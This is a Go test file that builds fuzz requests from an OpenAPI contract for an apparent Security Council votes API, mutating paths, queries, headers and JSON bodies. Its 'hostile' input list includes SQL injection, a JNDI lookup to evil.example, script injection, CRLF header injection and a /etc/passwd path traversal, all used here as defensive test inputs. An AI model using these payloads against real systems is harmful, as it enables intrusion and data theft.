package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/getkin/kin-openapi/openapi3"

	"scvotes/api/conform"
)

// generator makes requests from the contract, the same from the same seed.
type generator struct {
	*rand.Rand
	contract   *conform.Contract
	operations []conform.Operation
	paths      map[string]string   // by operation, with the examples in it
	bodies     map[string][]string // by operation
	had        []fuzzRequest       // answered before, with the tag that each got
}

func newGenerator(t *testing.T, c *conform.Contract, seed uint64) *generator {
	t.Helper()
	g := &generator{Rand: rand.New(rand.NewPCG(seed, 0)), contract: c, operations: c.Operations(), paths: make(map[string]string), bodies: make(map[string][]string)}
	for _, o := range g.operations {
		g.paths[o.Path] = pathOf(t, o)
		if o.RequestBody != nil && o.RequestBody.Value.Content.Get("application/json") != nil {
			g.bodies[o.Path] = bodiesOf(t, o)
		}
	}
	return g
}

// fuzzRequest is a request that somebody might send.
type fuzzRequest struct {
	operation             conform.Operation
	method, address, body string
	header                map[string]string
	again                 bool // asks for what it has by its tag
}

func (r fuzzRequest) String() string {
	return fmt.Sprintf("%s %q %q %.1000q", r.method, r.address, r.header, r.body)
}

// hear keeps what was asked, if its answer had a tag.
func (g *generator) hear(r fuzzRequest, got answer) {
	tag := got.header.Get("ETag")
	if got.status != http.StatusOK || tag == "" || r.again {
		return
	}
	r.again, r.header = true, maps.Clone(r.header)
	r.header["If-None-Match"] = tag
	g.had = append(g.had, r)
}

// request makes the next request.
func (g *generator) request() fuzzRequest {
	if len(g.had) > 0 && g.chance(5) {
		return pick(g, g.had)
	}
	o := pick(g, g.operations)
	for strings.HasPrefix(o.Path, "/v1/export/") && g.chance(90) { // they take long and no parameters
		o = pick(g, g.operations)
	}
	r := fuzzRequest{operation: o, method: o.Method, header: g.headers()}
	r.address = g.path(o) + "?" + g.query(o)
	if bodies := g.bodies[o.Path]; len(bodies) > 0 {
		r.body = g.body(pick(g, bodies))
		if g.chance(90) {
			r.header["Content-Type"] = "application/json"
		}
	} else if o.RequestBody != nil { // a file
		r.body, r.header["Content-Type"] = ownHeader+g.text(), pick(g, []string{"text/csv", "multipart/form-data", "multipart/form-data; boundary=x", ";"})
	} else if o.Method == http.MethodGet && g.chance(5) {
		r.method, r.operation.Method = http.MethodHead, http.MethodHead
	}
	return r
}

// chance is true so many times in a hundred.
func (g *generator) chance(percent int) bool { return g.IntN(100) < percent }

func pick[T any](g *generator, list []T) T { return list[g.IntN(len(list))] }

func (g *generator) headers() map[string]string {
	h := make(map[string]string)
	if g.chance(15) {
		h["Accept"] = pick(g, []string{"application/json", "text/csv", "application/x-ndjson", "*/*", "text/*;q=0.5, application/json;q=0.1",
			"image/png", "application/json;q=0", ";;;", "text/csv;q=NaN", strings.Repeat("a/b,", 200), "text/html,application/xhtml+xml,*/*;q=0.8"})
	}
	if g.chance(10) {
		h["If-None-Match"] = pick(g, []string{"*", `W/"0"`, `"`, strings.Repeat(`W/"1",`, 500)})
	}
	if g.chance(10) {
		h["If-Modified-Since"] = pick(g, []string{"Fri, 31 Dec 9999 23:59:59 GMT", "Thu, 01 Jan 1970 00:00:00 GMT", "yesterday"})
	}
	return h
}

// path is that of the examples, or has something else in place of a parameter.
func (g *generator) path(o conform.Operation) string {
	if !strings.Contains(o.Path, "{") || g.chance(60) {
		return g.paths[o.Path]
	}
	path := o.Path
	for _, ref := range o.Parameters {
		if p := ref.Value; p.In == openapi3.ParameterInPath {
			path = strings.ReplaceAll(path, "{"+p.Name+"}", segment(g.value(p)))
		}
	}
	return path
}

// segment writes a value as one part of a path. An empty part, or one of dots,
// would make it another path.
func segment(s string) string {
	if strings.Trim(s, ".") == "" {
		return "-"
	}
	return url.PathEscape(s)
}

// query has a few parameters of the operation, and at times one that it does
// not have, one twice, or a mark of percent that stands alone.
func (g *generator) query(o conform.Operation) string {
	known, values := inQuery(o), make(url.Values)
	for _, p := range known {
		if p.Required && g.chance(90) || g.chance(100/(1+len(known)/2)) {
			for range 1 + g.IntN(20)/19 {
				values.Add(p.Name, g.value(p))
			}
		}
	}
	if g.chance(5) {
		values.Add(pick(g, append(hostile, "outcom", "Limit", "q[]")), g.text())
	}
	query := values.Encode()
	if at := len(query) - 1; at > 0 && g.chance(3) {
		at = g.IntN(at)
		query = query[:at] + pick(g, []string{"%", "%zz", "%00", ";", "&&", "=", "+", "%ff"}) + query[at:]
	}
	return query
}

// value is mostly one that the parameter takes, else one like it, else anything.
func (g *generator) value(p *openapi3.Parameter) string {
	switch n := g.IntN(100); {
	case n < 60:
		return g.allowed(p)
	case n < 80:
		return g.near(g.allowed(p))
	}
	return g.text()
}

func (g *generator) allowed(p *openapi3.Parameter) string {
	s := p.Schema.Value
	if s.Items != nil {
		s = s.Items.Value
	}
	if g.chance(50) {
		switch {
		case len(s.Enum) > 0:
			return fmt.Sprint(pick(g, s.Enum))
		case s.Type.Is(openapi3.TypeInteger):
			return fmt.Sprint(g.within(s))
		case s.Format == "date":
			return fmt.Sprintf("%d-%02d-%02d", 1946+g.IntN(80), 1+g.IntN(12), 1+g.IntN(28))
		}
	}
	return pick(g, valuesOf(p, pick(g, examplesOf(p))))
}

func (g *generator) within(s *openapi3.Schema) int {
	least, most := 0, 1000
	if s.Min != nil {
		least = int(*s.Min)
	}
	if s.Max != nil {
		most = int(*s.Max)
	}
	return least + g.IntN(max(1, most-least+1))
}

// near is a value with one small fault, or none.
func (g *generator) near(v string) string {
	switch at := g.IntN(len(v) + 1); g.IntN(8) {
	case 0:
		return strings.ToUpper(v)
	case 1:
		return " " + v + "\t"
	case 2:
		return v + "," + v
	case 3:
		return v + ","
	case 4:
		return v[:at]
	case 5:
		return v[:at] + pick(g, hostile) + v[at:]
	case 6:
		return v + "0"
	}
	return "-" + v
}

// text is anything at all.
func (g *generator) text() string {
	if g.chance(80) {
		return pick(g, hostile)
	}
	b := make([]byte, g.IntN(30))
	for i := range b {
		b[i] = byte(g.Uint32())
	}
	return string(b)
}

// hostile is what has done harm somewhere: to a database, a template, a header,
// a number or a text.
var hostile = []string{
	"", "' OR 1=1 --", "'; DROP TABLE resolutions; --", `\`, "%", "_", "$1", "{{7*7}}", "{{.}}", "${jndi:ldap://evil.example/x}",
	"<script>alert(1)</script>", "a\r\nX-Injected: yes", "\x00", "S-2024-835\x00", "\xff\xfe", "\xed\xa0\x80", "\u202e", "e\u0301", "💥",
	"-1", "0", "-0", "0x10", "1e309", "NaN", "9223372036854775808", "99999999999999999999999", "2147483648", "1.5", "0001",
	strings.Repeat("a", 3000), strings.Repeat("a ", 1500), strings.Repeat("(", 1000), strings.Repeat(`"a `, 500), strings.Repeat("💥", 700), strings.Repeat("a,", 1000), strings.Repeat("b", 9000),
	"null", "true", "[]", "{}", "../../etc/passwd", "//evil.example/", `/\evil.example`, "http://evil.example",
	"-", `"`, `""`, `-"`, "*", ":*", "a:*&!b", "<->", "a | b", "the", "S/", "S/PV.", "S/2024/", "S/RES/ (2024)", ":", "USA:", ":no", "USA:no:no", "E10", "P5,",
	"2024-02-30", "0000-00-00", "9999-12-31", "+2024-01-01", "2024-1-1", "20240101", "eyJpIjoiLSJ9", "e30", "bnVsbA",
}

// body is an example, an example with something else in one place, or no JSON.
func (g *generator) body(example string) string {
	switch n := g.IntN(100); {
	case n < 20:
		return example
	case n < 30:
		return example[:g.IntN(len(example))]
	case n < 40:
		return g.text()
	}
	var v any
	if err := json.Unmarshal([]byte(example), &v); err != nil {
		return example
	}
	b, err := json.Marshal(g.changed(v))
	if err != nil {
		return example
	}
	return string(b)
}

// changed puts something else in one place of a value.
func (g *generator) changed(v any) any {
	switch v := v.(type) {
	case map[string]any:
		if len(v) == 0 || g.chance(15) {
			v[pick(g, append(hostile, "rule", "tally", "vetoes", "mass_atrocity", "others", "new_members"))] = g.thing()
			return v
		}
		name := pick(g, sortedKeys(v))
		if g.chance(20) {
			delete(v, name)
		} else {
			v[name] = g.changed(v[name])
		}
		return v
	case []any:
		if len(v) == 0 || g.chance(20) {
			return append(v, g.thing())
		}
		if i := g.IntN(len(v)); g.chance(20) {
			v = append(v, v[i])
		} else {
			v[i] = g.changed(v[i])
		}
		return v
	case string:
		if g.chance(50) {
			return g.near(v)
		}
	}
	return g.thing()
}

// thing is a JSON value of any kind.
func (g *generator) thing() any {
	return pick(g, []any{nil, true, -1, 1e300, 16, g.text(), []any{}, map[string]any{}, []any{g.text()}, map[string]any{"code": "USA", "position": "no"}})
}

func sortedKeys(m map[string]any) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}
